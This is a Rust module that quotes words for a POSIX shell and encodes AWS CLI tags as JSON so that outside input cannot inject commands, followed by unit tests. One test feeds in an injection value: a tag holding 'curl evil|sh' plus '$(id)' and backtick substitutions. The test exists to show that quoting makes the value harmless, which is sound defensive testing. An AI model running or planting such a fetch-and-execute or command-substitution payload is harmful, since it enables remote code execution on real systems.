//! Commands that are printed to be pasted into a POSIX shell.
//!
//! Tags, names and URLs come from outside: whatever they hold, the shell sees the words that were meant and no other. The AWS CLI
//! reads lists and maps in a syntax of its own, where a comma inside a value splits it; lists of tags are therefore JSON.

use std::borrow::Cow;
use std::fmt;

use serde::Serialize;

/// One command, word by word. Displayed, each word is quoted where a shell would read it otherwise.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ShellCommand {
    words: Vec<String>,
}

impl ShellCommand {
    /// A command without arguments.
    #[must_use]
    pub fn new(program: impl Into<String>) -> Self {
        Self {
            words: vec![program.into()],
        }
    }

    /// The same with one more word.
    #[must_use]
    pub fn arg(mut self, word: impl Into<String>) -> Self {
        self.words.push(word.into());
        self
    }

    /// The same with several more words.
    #[must_use]
    pub fn args<W: Into<String>>(mut self, words: impl IntoIterator<Item = W>) -> Self {
        self.words.extend(words.into_iter().map(Into::into));
        self
    }

    /// The words as the program gets them, its own name first.
    #[must_use]
    pub fn words(&self) -> &[String] {
        &self.words
    }
}

impl fmt::Display for ShellCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, word) in self.words.iter().enumerate() {
            if index > 0 {
                f.write_str(" ")?;
            }
            f.write_str(&quoted(word))?;
        }
        Ok(())
    }
}

/// A word as a POSIX shell reads it back unchanged: as it is where nothing in it means anything to the shell, else in single quotes.
#[must_use]
pub fn quoted(word: &str) -> Cow<'_, str> {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&byte);
    // zsh expands a word that begins with `=`.
    if !word.is_empty() && word.bytes().all(plain) && !word.starts_with('=') {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
}

#[derive(Serialize)]
#[serde(rename_all = "PascalCase")]
struct Tag<'a> {
    key: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    value: Option<&'a str>,
}

/// Tags as `aws … --tags` takes them: a JSON list. With `None` as value the key alone, as `delete-tags` takes it.
#[must_use]
pub fn aws_tags<'a>(tags: impl IntoIterator<Item = (&'a str, Option<&'a str>)>) -> String {
    let list: Vec<Tag<'_>> = tags.into_iter().map(|(key, value)| Tag { key, value }).collect();
    // Strings cannot fail to be written.
    serde_json::to_string(&list).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_quoted_only_where_the_shell_would_read_it_otherwise() {
        for plain in [
            "s3://bucket/a.example.com",
            "k8s.io/etcd/main=a/a,b,c",
            "--yes",
            "i-0abc",
            "10.0.0.7:4001",
        ] {
            assert_eq!(quoted(plain), plain);
        }
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("=ls"), "'=ls'");
        assert_eq!(quoted("~root"), "'~root'");
        assert_eq!(quoted("it's"), r"'it'\''s'");
    }

    #[test]
    fn what_came_from_outside_stays_one_harmless_word() {
        let tags = aws_tags([("k8s.io/etcd/x;curl evil|sh;", Some("a/$(id),`id`"))]);
        let command = ShellCommand::new("aws")
            .args(["ec2", "create-tags", "--tags"])
            .arg(tags);
        assert_eq!(
            command.to_string(),
            r#"aws ec2 create-tags --tags '[{"Key":"k8s.io/etcd/x;curl evil|sh;","Value":"a/$(id),`id`"}]'"#
        );
        assert_eq!(command.words().len(), 5);
    }

    #[test]
    fn a_tag_without_value_is_only_a_key() {
        assert_eq!(aws_tags([("Name", None)]), r#"[{"Key":"Name"}]"#);
    }
}
